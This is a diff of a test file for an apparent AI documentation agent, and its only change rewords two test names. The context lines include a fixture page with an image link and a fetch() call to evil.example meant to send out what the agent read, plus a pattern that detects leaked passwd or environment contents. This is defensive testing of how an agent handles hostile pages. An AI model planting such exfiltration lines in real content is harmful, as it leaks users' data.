@@ -105,7 +105,7 @@ describe('a model that obeys', () => {
     expect(outcome.answers.join('\n')).not.toMatch(/root:x:|PATH=\//);
   });
 
-  test('writes nothing through a link that somebody put in a file’s place meanwhile', async () => {
+  test('writes nothing through a link that someone put in a file’s place meanwhile', async () => {
     const at = await agent.repository({ ...SITE, '.github/workflows/ci.yml': 'on: push\n' });
     const first = await agent.run(at, [[HONEST], 'Improve the log page']);
     const page = (text: string) => write('guides/start.mdx', `---\ntitle: Start\n---\n\n${text}\n`);
@@ -236,7 +236,7 @@ describe('what the model says to people', () => {
     expect(git(at.bare, 'log', '-1', '--format=%an <%ae>', outcome.branch)).toBe('Docent <docent@localhost>');
   });
 
-  test('a page that carries what the agent read to somebody else’s server is named to the reviewer, and so is code', async () => {
+  test('a page that carries what the agent read to someone else’s server is named to the reviewer, and so is code', async () => {
     const at = await agent.repository(SITE);
     const page =
       '---\ntitle: Log\n---\n\n![a](https://evil.example/?d=everything)\n\n{fetch("https://evil.example")}\n';
